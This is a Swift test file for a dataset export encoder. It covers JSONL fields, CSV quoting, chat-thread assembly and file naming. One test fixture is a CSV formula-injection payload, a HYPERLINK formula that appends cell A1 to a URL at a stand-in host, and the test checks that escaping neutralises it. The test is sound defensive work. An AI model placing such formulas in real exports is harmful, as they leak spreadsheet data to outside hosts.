import Testing
import WinnowCore
import WinnowExport

private let record = ExportRecord(
    id: 7, part: .test, input: "Where is my parcel, \"please\"?\nIt's late.", response: "On its way.",
    label: "Shipping", trainingPoint: "late-delivery", ticketID: "T-7", source: "tickets.jsonl", locator: "line 7")

@Suite("Export encoding")
struct ExportEncoderTests {
    @Test("JSONL lines carry the fields and provenance")
    func jsonl() throws {
        let line = ExportEncoder(format: .jsonl).line(for: record)
        #expect(line.hasSuffix("\n"))
        let object = try #require(try JSONParser.parse(String(line.dropLast())).objectValue)
        #expect(
            object.keys == [
                "id", "input", "response", "label", "training_point", "ticket_id", "split", "source", "locator",
            ])
        #expect(object["split"] == .string("test"))
        #expect(object["input"] == .string(record.input))
    }

    @Test("CSV fields with commas, quotes and line breaks are quoted; others are not")
    func csvQuoting() {
        #expect(CSVField.quoted("plain") == "plain")
        #expect(CSVField.quoted("a,b") == "\"a,b\"")
        #expect(CSVField.quoted("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSVField.quoted("two\nlines") == "\"two\nlines\"")
        #expect(CSVField.quoted(" padded") == "\" padded\"")
        let line = ExportEncoder(format: .csv).line(for: record)
        #expect(line.hasPrefix("7,\"Where is my parcel, \"\"please\"\"?\nIt's late.\",On its way.,Shipping,"))
        #expect(line.hasSuffix(",test,tickets.jsonl,line 7\r\n"))
    }

    @Test("asked to, CSV cells a spreadsheet would run as formulas start with a quote; by default text is exact")
    func csvFormulas() {
        var formula = record
        formula.input = "=HYPERLINK(\"http://example.com/?\"&A1,\"Refund\")"
        formula.response = "-1 is your balance"
        formula.label = "@billing"
        #expect(ExportEncoder(format: .csv).line(for: formula).hasPrefix("7,\"=HYPERLINK(\"\"http"))
        let safe = ExportEncoder(format: .csv, escapeFormulas: true).line(for: formula)
        #expect(
            safe.hasPrefix(
                "7,\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Refund\"\")\",'-1 is your balance,'@billing,"))
        for (text, expected) in [("+1", "'+1"), ("\tx", "'\tx"), ("a=b", "a=b"), ("", ""), ("Hi -", "Hi -")] {
            #expect(CSVField.inert(text) == expected)
        }
    }

    @Test("chat examples: thread up to the last assistant turn, system prompt replacing the thread's own")
    func chatThread() {
        var threaded = record
        threaded.messages = [
            Message(role: .system, content: "Old prompt"), Message(role: .user, content: "Hi"),
            Message(role: .assistant, content: "Hello"), Message(role: .user, content: "Thanks, bye"),
        ]
        #expect(
            threaded.chatMessages(target: .auto, systemPrompt: nil).map(\.content) == ["Old prompt", "Hi", "Hello"])
        let prompted = threaded.chatMessages(target: .auto, systemPrompt: "You help Acme customers.")
        #expect(prompted.map(\.role) == [.system, .user, .assistant])
        #expect(prompted[0].content == "You help Acme customers.")
    }

    @Test("chat targets: a missing response answers with the label under auto, never under response")
    func chatTargets() {
        var intent = record
        intent.response = nil
        #expect(
            intent.chatMessages(target: .auto, systemPrompt: nil).last == Message(role: .assistant, content: "Shipping")
        )
        #expect(intent.answersWithLabel(target: .auto))
        #expect(intent.chatMessages(target: .response, systemPrompt: nil).map(\.role) == [.user])
        #expect(record.chatMessages(target: .label, systemPrompt: nil).last?.content == "Shipping")
        #expect(record.chatMessages(target: .auto, systemPrompt: nil).last?.content == "On its way.")
        #expect(!record.answersWithLabel(target: .auto))
    }

    @Test("file names are fixed per part and format")
    func fileNames() {
        #expect(ExportFormat.openAIChat.fileName(for: .train) == "train.jsonl")
        #expect(ExportFormat.csv.fileName(for: .validation) == "validation.csv")
    }
}
